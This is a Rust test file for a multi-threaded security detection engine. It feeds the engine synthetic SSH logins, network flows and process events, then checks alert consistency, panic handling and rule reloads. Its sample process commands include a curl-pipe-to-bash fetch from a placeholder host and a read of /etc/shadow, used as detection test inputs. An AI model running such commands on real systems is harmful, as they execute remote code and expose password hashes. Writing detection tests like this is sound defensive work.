//! The crew beside one thread that looks at everything itself: the same alerts, in every weather.

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use watchpost_model::alert::Alert;
use watchpost_model::event::{Auth, Flow, Log, Process, Side};
use watchpost_model::id::EventRef;
use watchpost_model::incident::Incident;
use watchpost_model::ledger::Stage;
use watchpost_model::{Timestamp, field as f};

use super::super::tests::{Site, agent, at, failure};
use super::super::{Counts, Desk, Engine, Hit, Rules, Settings, Worker, record};
use super::*;
use crate::ruleset::{Origin, Ruleset};
use crate::state::{State, Table};

/// Numbers that look mixed.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }
}

/// Traffic in which a third of the events wake rules, and several windows fill at a time.
fn event(dice: &mut Dice, time: Timestamp) -> Event {
    let from = std::net::Ipv4Addr::new(203, 0, 113, u8::try_from(dice.roll(4)).unwrap());
    match dice.roll(6) {
        0 | 1 => {
            let good = dice.roll(9) == 0;
            let word = if good { "Accepted" } else { "Failed" };
            let message = format!("{word} password for root from {from} port 4000 ssh2");
            let log = Log { time, provider: "sshd".into(), original: message.clone(), message };
            Event::from(Auth {
                log,
                action: "ssh_login",
                outcome: if good { "success" } else { "failure" },
                user: "root".into(),
                source_ip: Some(from.into()),
                source_port: Some(4_000),
                method: "password".into(),
                ..Auth::default()
            })
        }
        2 | 3 => Event::from(Flow {
            start: time,
            end: time,
            source: (from.into(), 40_000),
            destination: (
                std::net::Ipv4Addr::new(10, 0, 0, 9).into(),
                u16::try_from(dice.roll(900)).unwrap(),
            ),
            transport: "tcp",
            protocol_number: 6,
            sent: Side { packets: 1, bytes: 60, payload: 0 },
            received: Side { packets: 1, bytes: 40, payload: 0 },
            community_id: "",
            state: if dice.roll(2) == 0 { "REJ" } else { "SF" },
            reason: "end",
        }),
        _ => {
            let lines = ["ls -l", "curl -s http://x.example/a | bash", "date", "cat /etc/shadow", "id"];
            let line = lines[usize::try_from(dice.roll(5)).unwrap()];
            let executable = "/usr/bin/bash".to_owned();
            Event::from(Process { time, pid: 7, executable, command_line: line.into(), ..Process::default() })
        }
    }
}

fn filled(frames: u64, each: u64) -> Site {
    let mut site = Site::new();
    let mut dice = Dice(5);
    for frame in 0..frames {
        let seconds = i64::try_from(frame).unwrap();
        let time = |nth: u64| at(seconds).plus(Duration::from_millis(nth));
        let events = (0..each).map(|nth| event(&mut dice, time(nth))).collect();
        site.append(events, seconds + 1);
    }
    site
}

fn worker(site: &Site, rules: Arc<dyn Rules>) -> Worker {
    let state: Arc<dyn State> = site.state.clone();
    let desk = Desk::open(site.journal.reader(), state, rules, site.hub.clone(), at(0)).unwrap();
    Worker::open(Arc::new(desk), Settings::default()).unwrap()
}

fn outcome(site: &Site) -> (Vec<Alert>, Vec<Incident>) {
    let (mut alerts, mut incidents) = (Vec::new(), Vec::new());
    record::walk(site.state.as_ref(), Table::Alerts, |_, alert| alerts.push(alert)).unwrap();
    record::walk(site.state.as_ref(), Table::Incidents, |_, incident| incidents.push(incident)).unwrap();
    (alerts, incidents)
}

/// Rules whose engine wants to see every event itself.
struct Alone(Ruleset);

struct Unsifted(Box<dyn Engine>);

impl Engine for Unsifted {
    fn observe(&mut self, event: &Event, at: EventRef) -> Vec<Hit> {
        self.0.observe(event, at)
    }

    fn longest_window(&self) -> Duration {
        self.0.longest_window()
    }
}

impl Rules for Alone {
    fn generation(&self) -> u64 {
        self.0.generation()
    }

    fn engine(&self) -> Box<dyn Engine> {
        Box::new(Unsifted(self.0.engine()))
    }

    fn counts(&self) -> Counts {
        self.0.counts()
    }
}

fn shipped() -> Ruleset {
    let shipped = watchpost_rules::shipped::shipped();
    Ruleset::open(Origin { shipped, ..Origin::default() }, at(0))
}

#[test]
fn many_threads_find_what_one_finds() {
    let (mut one, mut many) = (filled(60, 40), filled(60, 40));
    let mut worker_of_one = worker(&one, Arc::new(Alone(shipped())));
    let mut worker_of_many = worker(&many, Arc::new(shipped()));
    one.run(&mut worker_of_one, 100);
    many.run(&mut worker_of_many, 100);
    let (alone, together) = (outcome(&one), outcome(&many));
    assert!(alone.0.len() > 10 && !alone.1.is_empty(), "the traffic must raise something: {}", alone.0.len());
    assert!(alone.0.iter().any(|alert| alert.count > 5), "and windows must fill");
    assert_eq!(together, alone);
    let counted = |worker: &Worker| worker.desk().book.host(agent()).unwrap().ledger.get(Stage::Detect);
    assert_eq!(counted(&worker_of_many), counted(&worker_of_one));
    assert_eq!(counted(&worker_of_many).passed, 60 * 40);
    // And goes on from there.
    for (site, worker) in [(&mut one, &mut worker_of_one), (&mut many, &mut worker_of_many)] {
        site.append(vec![failure(90)], 100);
        site.run(worker, 101);
    }
    assert_eq!(outcome(&many), outcome(&one));
}

/// Counts which of its sieves looked at what; panics where it is told to.
struct Picky {
    generation: u64,
}

impl Sieve for Picky {
    fn sift(&mut self, event: &Event) -> Sifted {
        assert!(event.text(f::MESSAGE) != Some("panic"), "made to");
        Sifted::default()
    }
}

impl Engine for Picky {
    fn observe(&mut self, _: &Event, _: EventRef) -> Vec<Hit> {
        panic!("a quiet event reached the engine of generation {}", self.generation)
    }

    fn sieve(&self) -> Option<Box<dyn Sieve>> {
        Some(Box::new(Self { generation: self.generation }))
    }

    fn longest_window(&self) -> Duration {
        Duration::ZERO
    }
}

#[derive(Default)]
struct PickyRules(AtomicU64);

impl Rules for PickyRules {
    fn generation(&self) -> u64 {
        self.0.load(Ordering::Relaxed)
    }

    fn engine(&self) -> Box<dyn Engine> {
        Box::new(Picky { generation: self.generation() })
    }

    fn counts(&self) -> Counts {
        Counts::default()
    }
}

#[test]
fn quiet_events_never_reach_the_engine_and_a_panic_ahead_costs_one_event() {
    let mut site = Site::new();
    let mut bad = failure(1);
    bad.record.set(f::MESSAGE, "panic");
    site.append(vec![failure(0), bad, failure(2)], 3);
    let rules = Arc::new(PickyRules::default());
    let mut worker = worker(&site, rules.clone());
    site.run(&mut worker, 4);
    rules.0.fetch_add(1, Ordering::Relaxed);
    site.append(vec![failure(5)], 6);
    site.run(&mut worker, 7);
    let host = worker.desk().book.host(agent()).unwrap();
    let detect = host.ledger.get(Stage::Detect);
    assert_eq!((detect.passed, detect.lost), (3, 1));
    let warnings = worker.desk().overview(at(8)).warnings;
    assert!(warnings.iter().any(|text| text.contains("made the rules engine fail")), "{warnings:?}");
}

#[test]
fn rules_that_are_exchanged_while_frames_are_read_ahead_judge_by_their_own_set() {
    let rule = |id: u8, title: &str, outcome: &str| {
        format!(
            "title: {title}\nid: 6b1f6b1e-0000-4000-8000-0000000000{id:02}\nlevel: high\nlogsource:\n    \
             product: linux\n    service: sshd\ndetection:\n    s:\n        event.outcome: {outcome}\n    \
             condition: s\n"
        )
    };
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("own.yml");
    std::fs::write(&file, rule(1, "Old", "failure")).unwrap();
    let paths = vec![dir.path().to_path_buf()];
    let rules = Arc::new(Ruleset::open(Origin { paths, ..Origin::default() }, at(0)));
    let mut site = filled(40, 20);
    let mut worker = worker(&site, rules.clone());
    worker.step(|| at(50)).unwrap();
    let done = worker.cursor();
    // The same place in the set is now another rule's; what was sifted for the old must not count.
    std::fs::write(&file, format!("{}---\n{}", rule(2, "New", "success"), rule(3, "Other", "unknown")))
        .unwrap();
    assert!(rules.reload(at(50)).unwrap());
    site.append(vec![failure(60)], 61);
    site.run(&mut worker, 62);
    for alert in outcome(&site).0 {
        let frame = alert.events.iter().map(|event| event.frame).min().unwrap();
        assert_eq!(alert.rule.name == "Old", frame <= done, "{alert:#?}");
        assert_ne!(alert.rule.name, "Other");
    }
}

#[test]
fn frames_come_back_in_order_and_a_crew_that_is_sent_away_leaves_nothing_behind() {
    let site = filled(50, 3);
    let journal = site.journal.reader();
    let crew = |cursor| Crew::new(&journal, cursor, || None).unwrap();
    let mut all = crew(0);
    for expected in 1..=50 {
        let (number, found) = all.next().unwrap();
        let sorted = found.unwrap().unwrap();
        assert_eq!((number, sorted.arrival.frame, sorted.woken.len()), (expected, expected, 3));
        assert!(sorted.woken.iter().map(|woken| woken.index).eq(0..3));
    }
    assert!(all.next().is_none(), "the journal has no more");
    let mut some = crew(30);
    assert_eq!(some.next().map(|(number, _)| number), Some(31));
    drop(some);
    assert_eq!(crew(30).next().map(|(number, _)| number), Some(31), "another one begins where it is told");
}

#[test]
fn nobody_is_called_silent_while_detection_is_behind() {
    let mut site = filled(1, 3);
    let mut worker = worker(&site, Arc::new(PickyRules::default()));
    site.run(&mut worker, 1);
    // A batch waits that detection has not come to: the host speaks.
    site.append(vec![failure(99)], 100);
    worker.round(at(101)).unwrap();
    let silent = |site: &Site| outcome(site).0.len();
    assert_eq!(silent(&site), 0);
    site.run(&mut worker, 102);
    worker.round(at(129)).unwrap();
    assert_eq!(silent(&site), 0);
    worker.round(at(140)).unwrap();
    assert_eq!(silent(&site), 1, "now it really is");
}

/// What a panic carries that panics itself when it is dropped, so many times.
struct Bomb(u8);

impl Drop for Bomb {
    fn drop(&mut self) {
        if let Some(left) = self.0.checked_sub(1) {
            std::panic::panic_any(Self(left));
        }
    }
}

struct Mined;

impl Sieve for Mined {
    fn sift(&mut self, event: &Event) -> Sifted {
        if event.text(f::MESSAGE) == Some("mine") {
            std::panic::panic_any(Bomb(2));
        }
        Sifted::default()
    }
}

impl Engine for Mined {
    fn observe(&mut self, _: &Event, _: EventRef) -> Vec<Hit> {
        Vec::new()
    }

    fn sieve(&self) -> Option<Box<dyn Sieve>> {
        Some(Box::new(Self))
    }

    fn longest_window(&self) -> Duration {
        Duration::ZERO
    }
}

struct MinedRules;

impl Rules for MinedRules {
    fn generation(&self) -> u64 {
        0
    }

    fn engine(&self) -> Box<dyn Engine> {
        Box::new(Mined)
    }

    fn counts(&self) -> Counts {
        Counts::default()
    }
}

#[test]
fn a_crew_whose_last_thread_died_loses_only_the_frames_that_its_threads_held() {
    let threads = std::thread::available_parallelism().map_or(1, usize::from).min(MOST_THREADS);
    let mut site = Site::new();
    for place in 0..20 {
        let mut event = failure(1);
        if (3..3 + threads).contains(&place) {
            event.record.set(f::MESSAGE, "mine");
        }
        site.append(vec![event], 1);
    }
    let mut worker = worker(&site, Arc::new(MinedRules));
    site.run(&mut worker, 2);
    let lost = u64::try_from(threads).unwrap();
    assert_eq!(worker.desk().figures.damaged.load(Ordering::Relaxed), lost);
    let detect = worker.desk().book.host(agent()).unwrap().ledger.get(Stage::Detect);
    assert_eq!(detect.passed, 20 - lost);
}
